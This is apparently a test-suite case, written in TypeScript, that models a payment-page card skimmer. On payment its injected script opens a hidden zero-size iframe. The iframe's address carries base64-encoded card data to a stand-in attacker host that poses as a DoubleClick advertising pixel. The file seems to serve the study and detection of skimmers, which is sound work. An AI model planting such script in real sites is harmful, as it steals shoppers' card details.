import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'iframe-address',
  why: 'A frame of no size is opened with the loot in its address, in the shape of an advertising pixel.',
  covers: ['sending: hidden form', 'disguise: known brand'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    var f = document.createElement('iframe');
    f.width = f.height = 0; f.style.display = 'none';
    f.src = '${site.origins.evil.replace('evil', 'doubleclick.evil')}/activityi;src=1;d=1?d=' + encodeURIComponent(btoa(card()));
    document.body.append(f);`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
